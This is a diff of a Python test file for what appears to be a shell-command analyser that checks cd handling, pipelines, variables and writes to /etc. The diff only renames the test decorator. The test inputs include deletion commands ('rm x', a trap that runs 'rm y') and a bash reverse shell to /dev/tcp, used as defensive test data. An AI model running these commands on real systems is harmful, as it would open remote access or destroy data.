@@ -253,7 +253,7 @@ def test_cd_is_followed_where_it_is_certain() -> None:
     assert folder("ssh example.com rm x") is None
 
 
-@pytest.mark.parametrize(
+@each(
     ("command", "folders"),
     [
         ("test -d a && cd /tmp; rm x", ["/tmp", "/srv/work"]),
@@ -269,7 +269,7 @@ def test_where_a_cd_may_have_been_left_out_each_directory_counts(command: str, f
     assert sorted(found, key=str) == sorted(folders)
 
 
-@pytest.mark.parametrize(
+@each(
     ("command", "lines"),
     [
         ("a | b | c\nd x || e", ["a", "b", "c", "d x", "e"]),
@@ -291,7 +291,7 @@ def test_values_of_branches_and_loops_are_all_tried() -> None:
     assert "rm y" in _lines(_read("x=echo2; trap '$x y' EXIT; x=rm"))
 
 
-@pytest.mark.parametrize(
+@each(
     "command",
     ["bash -c 'a' > /etc/x", "bash <<< a > /etc/x", "eval a > /etc/x", "watch a > /etc/x", "ssh h a > /etc/x"],
 )
@@ -305,7 +305,7 @@ def test_where_only_a_text_inside_is_read_its_variables_still_count(command: str
     assert ("BASH_ENV", Argument("b")) in [one for call in _read(command).invocations for one in call.assignments]
 
 
-@pytest.mark.parametrize(
+@each(
     "command",
     [
         "bash <<< 'bash -i >& /dev/tcp/h/1 0>&1'",
